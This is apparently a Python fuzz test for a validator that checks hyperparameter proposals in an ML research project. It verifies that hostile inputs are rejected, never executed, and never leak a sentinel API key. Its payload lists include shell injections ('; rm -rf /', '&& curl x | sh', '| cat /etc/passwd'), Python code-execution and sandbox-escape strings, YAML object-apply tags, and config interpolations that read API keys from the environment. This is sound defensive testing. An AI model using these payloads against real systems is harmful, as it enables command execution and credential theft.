"""Hostile proposals, generated: research.proposing.validation.validate accepts nothing invalid, executes nothing, leaks nothing.

Each example is a whole proposal (key, value, description, reasoning, sometimes extra fields) mixing search-space
keys with hostile ones, and values that are code, shell, Python expressions, OmegaConf interpolations, Hydra
override syntax, unicode look-alikes and bidi controls, huge strings and numbers, NaN/inf, out-of-range values
and wrong types. While validate runs, eval/exec/compile, os.system/popen/exec* and subprocess are replaced by
tripwires. An accepted proposal is re-checked by an oracle written independently of research/proposing/space.py.
`pytest tests/test_reliability_fuzz.py -s` prints the counts table of docs/RELIABILITY.md.
"""
from __future__ import annotations

import builtins
import math
import os
import re
import subprocess
from collections import Counter
from contextlib import ExitStack
from pathlib import Path
from unittest import mock

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from research.errors import InvalidProposal
from research.proposing.space import load_space
from research.proposing.validation import PROPOSAL_FIELDS, validate

ROOT = Path(__file__).resolve().parents[1]
SPACE = load_space(ROOT / "conf/space.yaml")
HPARAMS = yaml.safe_load((ROOT / "conf/hparams/default.yaml").read_text())
SPEC = yaml.safe_load((ROOT / "conf/space.yaml").read_text())["params"]
SECRET = "sk-ant-FUZZ-SENTINEL-7d1e0a"
EXAMPLES = 1500
SEQ_LEN = 2048  # train.seq_len, for the batch divisibility constraint
COUNTS: Counter = Counter()

CODE = ["__import__('os').system('touch /tmp/pwned')", "eval('1+1')", "exec('x=1')", "lambda: 0",
        "open('/etc/passwd').read()", "os.environ['ANTHROPIC_API_KEY']", "().__class__.__bases__[0].__subclasses__()",
        "compile('1','x','eval')", "globals()", "!!python/object/apply:os.system ['id']", "{{7*7}}", "{0.__class__}"]
SHELL = ["$(id)", "`id`", "; rm -rf /", "&& curl x | sh", "| cat /etc/passwd", "> /etc/passwd", "$HOME",
         "${HOME}", "\nhydra.run.dir=/tmp", "0.05 hydra.run.dir=/tmp", "0.05;id", "%(x)s"]
INTERPOLATION = ["${oc.env:ANTHROPIC_API_KEY}", "${oc.env:HOME}", "${env:ANTHROPIC_API_KEY}", "${hydra:runtime.cwd}",
                 "${oc.decode:'1'}", "${..seed}", "${model.depth}", "$${oc.env:X}", "\\${oc.env:X}",
                 "${oc.env:ANTHROPIC_API_KEY,x}", "${ oc.env:ANTHROPIC_API_KEY }"]
OVERRIDE = ["+model.depth=3", "++model.depth=3", "~model.depth", "model.depth=1,2", "choice(1,2)", "range(1,9)",
            "glob(*)", "interval(0,1)", "shuffle(1,2)", "sort(2,1)", "hydra.run.dir=x", "hydra/launcher=x",
            "model.depth@_global_=3", "[1,2]", "{a:1}", "'SL'", '"SL"', "null", "true", "S\\L"]
UNICODE = ["ＳＬ", "SⅬ", "S\u200bL", "\u202eLS", "S\u0301L", "ЅL", "S\u00a0L", "S\x00L", "SL\n", "S\tL", "𝐒𝐋",
           "ｇｅｌｕ", "gеlu", "relu²", "\ufeffSL", "S\u2028L"]
NUMBERISH = ["0.05", "1e-3", "nan", "NaN", "inf", "-inf", "1e999", "0x10", "1_000", "٣", "³", "0.05\n", " 0.05",
             "1/0", "2**64", "True", "None"]
HOSTILE_KEYS = ["hydra.run.dir", "hydra.job.chdir", "+model.depth", "++model.depth", "~model.depth",
                "model.depth@pkg", "model.dеpth", "ｍodel.depth", "model.depth\n", "model..depth", "${x}", "seed",
                "model", "hparams.model.depth", "__class__.__init__", "model.depth,optim.matrix_lr", "",
                "model.depth=3", "optim.matrix_lr ", "Optim.Matrix_LR", "optim.matrix_lr\u200b", "model.depth;id"]

hostile_text = st.one_of(st.sampled_from(CODE + SHELL + INTERPOLATION + OVERRIDE + UNICODE + NUMBERISH),
                         st.text(max_size=60), st.text(min_size=5_000, max_size=5_000, alphabet="SL${}x"))
numbers = st.one_of(
    st.floats(allow_nan=True, allow_infinity=True), st.integers(), st.integers(min_value=2**53, max_value=2**4000),
    st.integers(max_value=-(2**53)), st.sampled_from([0, -1, 1, 10**9, 0.0, -0.0, 1e-320, 1e308, 2**53 + 1]))
wrong_types = st.one_of(st.none(), st.booleans(), st.lists(st.integers(), max_size=3),
                        st.dictionaries(st.text(max_size=3), st.integers(), max_size=2), st.just(b"SL"))
keys = st.one_of(st.sampled_from(list(SPACE.keys)), st.sampled_from(HOSTILE_KEYS), st.text(max_size=40))
proposals = st.fixed_dictionaries(
    {"key": keys, "value": st.one_of(hostile_text, numbers, wrong_types),
     "description": st.one_of(hostile_text, st.just("a change")),
     "reasoning": st.one_of(hostile_text, st.just("why not"))},
    optional={"override": st.sampled_from(OVERRIDE), "code": st.sampled_from(CODE)})


class Executed(AssertionError):
    pass


def tripwire(name):
    def fire(*args, **kwargs):
        COUNTS["executed"] += 1
        raise Executed(f"validate called {name}")
    return fire


def tripwires() -> ExitStack:
    stack = ExitStack()
    for target in ("builtins.eval", "builtins.exec", "builtins.compile", "os.system",
                   "os.popen", "os.execv", "os.execve", "os.execvp", "os.spawnv", "os.posix_spawn",
                   "subprocess.Popen", "subprocess.run", "subprocess.call", "subprocess.check_output"):
        stack.enter_context(mock.patch(target, tripwire(target)))
    return stack


def kept(number) -> float:
    """A float value as a proposal keeps it: 6 significant digits (0.0400000001 is 0.04)."""
    return float(f"{number:.6g}")


def oracle_valid(key, value) -> bool:
    """Whether key=value is allowed, from conf/space.yaml read directly (not through research.proposing.space)."""
    spec = SPEC.get(key) if isinstance(key, str) else None
    if spec is None or key == "seed" or key.startswith("hydra."):
        return False
    kind = spec["type"]
    if kind == "bool":
        return type(value) is bool
    if kind == "int":
        return type(value) is int and spec["min"] <= value <= spec["max"]
    if kind == "float":
        return (type(value) in (int, float) and abs(value) <= 2**53 and math.isfinite(value)
                and spec["min"] <= kept(value) <= spec["max"])
    if kind == "choice":
        return any(type(c) is type(value) and c == value for c in spec["choices"])
    return (type(value) is str and value.isascii() and len(value) <= spec["max_len"]
            and re.fullmatch(spec["pattern"], value) is not None)


def oracle_accepts(key, value) -> bool:
    """oracle_valid, and a real change of the current block that keeps the constraints space.yaml names."""
    if not oracle_valid(key, value):
        return False
    group, name = key.split(".")
    current = HPARAMS[group][name]
    # Floats are compared as kept, and closer than 1e-15 (or 1e-9 relative) is no change: -0.0 is 0.0, 1e-134 is 0.
    if SPEC[key]["type"] == "float":
        if math.isclose(kept(value), current, rel_tol=1e-9, abs_tol=1e-15):
            return False
    elif value == current:
        return False
    block = {g: dict(values) for g, values in HPARAMS.items() if isinstance(values, dict)}
    block[group][name] = kept(value) if SPEC[key]["type"] == "float" else value
    model, batch, schedule = block["model"], block["batch"], block["schedule"]
    # heads: width = depth * aspect_ratio rounded up to head_dim; its heads must divide by kv_head_ratio.
    width = -(-model["depth"] * model["aspect_ratio"] // model["head_dim"]) * model["head_dim"]
    heads_ok = (width // model["head_dim"]) % model["kv_head_ratio"] == 0
    batch_ok = batch["total_batch_tokens"] % (batch["device_batch_size"] * SEQ_LEN) == 0
    schedule_ok = schedule["warmup_frac"] + schedule["warmdown_frac"] <= 1
    return heads_ok and batch_ok and schedule_ok


def control_values(key: str) -> list:
    """Values space.yaml allows for `key` (bounds, midpoints, every choice): the acceptance control's inputs."""
    spec, current = SPEC[key], HPARAMS[key.split(".")[0]][key.split(".")[1]]
    kind = spec["type"]
    if kind == "bool":
        return [not current]
    if kind == "choice":
        return list(spec["choices"])
    if kind == "str-pattern":
        return ["L", "SL", "SSL", "SSSL"]
    low, high = spec["min"], spec["max"]
    if kind == "int":
        return [low, high, (low + high) // 2, min(high, current * 2), max(low, current // 2)]
    return [float(low), float(high), (low + high) / 2]


@pytest.fixture(scope="module", autouse=True)
def sentinel_environment():
    with mock.patch.dict(os.environ, {"ANTHROPIC_API_KEY": SECRET, "HOME": "/home/fuzz-sentinel-home"}):
        validate({"key": "optim.matrix_lr", "value": 0.05, "description": "d", "reasoning": "r"}, HPARAMS, SPACE,
                 set(), SEQ_LEN)  # warm: Hydra's parser is imported before the tripwires go up
        yield


def leaks(text: str) -> bool:
    return SECRET in text or "fuzz-sentinel-home" in text


# The 5,000-character strings are meant: they trip the size and speed checks, nothing else should be silenced
# (and list(HealthCheck) would also name the members Hypothesis has deprecated, which warns).
# The 5,000-character strings are meant: they trip the size and speed checks, nothing else should be silenced
# (and list(HealthCheck) would also name the members Hypothesis has deprecated, which warns).
@settings(max_examples=EXAMPLES, deadline=None,
          suppress_health_check=[HealthCheck.data_too_large, HealthCheck.too_slow, HealthCheck.large_base_example])
@given(proposal=proposals)
def test_hostile_proposals(proposal):
    """Direction one: nothing the oracle rejects is accepted; nothing is executed or leaked on the way."""
    COUNTS["generated"] += 1
    with tripwires():
        try:
            change = validate(proposal, HPARAMS, SPACE, set(), SEQ_LEN)
        except InvalidProposal as exc:
            COUNTS["rejected"] += 1
            message = str(exc)
            COUNTS["leaked"] += leaks(message)
            assert not leaks(message)
            assert "\n" not in message and len(message) < 1000  # the longest lists every search-space key
            return
    COUNTS["accepted"] += 1
    valid = oracle_accepts(proposal["key"], proposal["value"]) and set(proposal) == set(PROPOSAL_FIELDS)
    COUNTS["accepted_invalid"] += not valid
    assert valid, f"accepted an invalid proposal: {proposal!r}"
    # Key parts may hold digits (optim.normuon_beta2), values no quoting, spaces or grammar characters.
    assert re.fullmatch(r"hparams\.[a-z_][a-z0-9_]*\.[a-z_][a-z0-9_]*=[A-Za-z0-9_.+-]+", change.override)
    for text in (change.override, change.description, change.reasoning, str(change.value)):
        COUNTS["leaked"] += leaks(text)
        assert not leaks(text)
        assert text.isprintable()


@settings(max_examples=300, deadline=None)
@given(key=st.sampled_from(list(SPACE.keys)), value=st.one_of(st.integers(-10, 10**7), st.floats(-1e7, 1e7),
                                                             st.booleans(), st.sampled_from(["S", "SL", "gelu"])))
def test_plain_proposals_are_accepted_iff_the_oracle_accepts_them(key, value):
    """Both directions on plain typed values: accepted exactly when the oracle accepts."""
    proposal = {"key": key, "value": value, "description": "d", "reasoning": "r"}
    try:
        validate(proposal, HPARAMS, SPACE, set(), SEQ_LEN)
        accepted = True
    except InvalidProposal:
        accepted = False
    COUNTS["plain_accepted" if accepted else "plain_rejected"] += 1
    assert accepted == oracle_accepts(key, value), f"validate {'accepted' if accepted else 'rejected'} {key}={value!r}"


@pytest.mark.parametrize("key", list(SPACE.keys))
def test_every_key_accepts_the_values_the_oracle_accepts(key):
    """The acceptance side on its own, for every key: the fuzz cannot pass by rejecting everything."""
    values = [value for value in control_values(key) if oracle_accepts(key, value)]
    assert values, f"no control value of {key} is a valid change"
    for value in values:
        validate({"key": key, "value": value, "description": "d", "reasoning": "r"}, HPARAMS, SPACE, set(), SEQ_LEN)


def test_fuzz_counts_table():
    """The table of docs/RELIABILITY.md, from the counts of the fuzz tests above (run the whole file)."""
    if not COUNTS["generated"]:
        pytest.skip("the table needs the fuzz tests above in the same session")
    assert COUNTS["generated"] >= 1000
    print("\n| hostile proposals generated | rejected | accepted (all valid per the oracle) | accepted invalid | "
          "executed | env values leaked | plain proposals: accepted / rejected |")
    print("|---:|---:|---:|---:|---:|---:|---|")
    print(f"| {COUNTS['generated']} | {COUNTS['rejected']} | {COUNTS['accepted']} | {COUNTS['accepted_invalid']} | "
          f"{COUNTS['executed']} | {COUNTS['leaked']} | {COUNTS['plain_accepted']} / {COUNTS['plain_rejected']} |")
